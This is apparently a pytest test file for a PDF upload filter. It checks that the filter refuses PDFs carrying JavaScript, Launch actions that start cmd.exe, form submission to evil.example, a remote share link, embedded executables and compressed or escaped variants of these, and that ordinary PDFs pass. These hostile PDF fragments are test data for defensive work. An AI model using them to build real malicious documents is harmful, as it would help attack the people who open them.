"""PDFs that run a script or start a program are refused, however the words are hidden; ordinary ones are taken."""

from __future__ import annotations

import io
import zlib

import pytest

from minsheng.gateways import documents
from minsheng.gateways.media import pdfs
from minsheng.gateways.media.filetypes import Limits, Unacceptable, examine

LIMITS = Limits(file=20 << 20, video=100 << 20, order_files=10, order=200 << 20)
HEAD, END = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", b"trailer << /Root 1 0 R >>\n%%EOF\n"


def pdf(*objects: bytes) -> bytes:
    """Return a PDF with these objects."""
    return HEAD + b"".join(objects) + END


def packed(content: bytes, more: bytes = b"/Filter /FlateDecode") -> bytes:
    """Return an object stream that holds some objects."""
    data = zlib.compress(content) if b"Flate" in more else content
    return b"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 %s /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        more,
        len(data),
        data,
    )


def code_of(content: bytes) -> str:
    """Return the code of the refusal, or nothing."""
    try:
        examine(io.BytesIO(content), name="说明.pdf", limits=LIMITS)
    except Unacceptable as refused:
        return refused.code
    return ""


SCRIPT = b"2 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj\n"


@pytest.mark.parametrize(
    "content",
    [
        pdf(SCRIPT),
        pdf(b"2 0 obj << /S /Java#53cript /JS 3 0 R >> endobj\n"),
        pdf(b"2 0 obj << /S /#4a#61vaScript/JS(x)>> endobj\n"),
        pdf(b"2 0 obj << /S/Launch /F (cmd.exe) >> endobj\n"),
        pdf(b"2 0 obj << /AcroForm << /XFA 3 0 R >> >> endobj\n"),
        pdf(packed(SCRIPT)),
        pdf(packed(SCRIPT, b"/Filter [ /FlateDecode ]")),
        pdf(packed(SCRIPT, b"/F#69lter/Flate#44ecode")),
        pdf(b"2 0 obj << /OpenAction << /S /Rendition /JS (app.alert\\(1\\)) >> >> endobj\n"),
        pdf(packed(b"<< /S /Rendition /J#53 3 0 R >>")),
        pdf(b"3 0 obj << /Length 99 >>\nstream\n2 0 obj << /S /Rendition /JS (x) >>\nendstream\nendobj\n"),
        pdf(b"2 0 obj << /OpenAction << /S /SubmitForm /F (http://evil.example) >> >> endobj\n"),
        pdf(b"2 0 obj << /OpenAction << /S /GoToR /F (\\\\evil\\share) >> >> endobj\n"),
        pdf(b"2 0 obj << /EmbeddedFiles 3 0 R >> endobj\n3 0 obj << /Type /Filespec /F (a.EXE) >> endobj\n"),
        # A reader finds it by the table of places, though it lies in a stream.
        pdf(b"3 0 obj << /Length 99 >>\nstream\n" + SCRIPT + b"\nendstream\nendobj\n"),
    ],
)
def test_a_pdf_that_acts_is_refused(content: bytes) -> None:
    assert code_of(content) == "file_has_scripts"


@pytest.mark.parametrize(
    "content",
    [
        pdf(packed(b"3c3e>", b"/Filter /ASCIIHexDecode")),
        pdf(packed(b"<< >>", b"/Filter [/FlateDecode /ASCIIHexDecode]")),
        pdf(packed(b"<< >>", b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>")),
        pdf(packed(b"<< >>")).replace(b"/Root", b"/Encrypt 5 0 R /Root"),
        pdf(b"9 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnothing packed\nendstream\nendobj\n"),
    ],
)
def test_a_pdf_that_nobody_can_look_into_is_refused(content: bytes) -> None:
    assert code_of(content) == "file_is_opaque"


def test_what_unpacks_without_end_is_refused_within_its_budget() -> None:
    assert code_of(pdf(packed(b"\0" * (65 << 20)))) == "file_is_opaque"


@pytest.mark.parametrize(
    "content",
    [
        pdf(packed(b"<< /Type /Page >>"), b"4 0 obj << /S /URI /URI (https://a.example) >> endobj\n"),
        pdf(b"2 0 obj (JavaScript and Launch are words) endobj\n"),
        # A picture in which the short word stands by chance.
        pdf(b"3 0 obj << /Length 40 >>\nstream\n\x00\x01\xff/JS(\x80\x81\x82/GoToR \xfe\nendstream\nendobj\n"),
        pdf(b"2 0 obj << /EmbeddedFiles 3 0 R >> endobj\n3 0 obj << /Type /Filespec /F (a.xml) >> endobj\n"),
        pdf(packed(b"<< /Type /Page >>", b"")),
    ],
)
def test_an_ordinary_pdf_is_taken(content: bytes) -> None:
    assert code_of(content) == ""


def test_what_we_make_ourselves_is_taken() -> None:
    made = documents.pdf(source="= 通报", values={})

    assert not pdfs.acts(io.BytesIO(made))
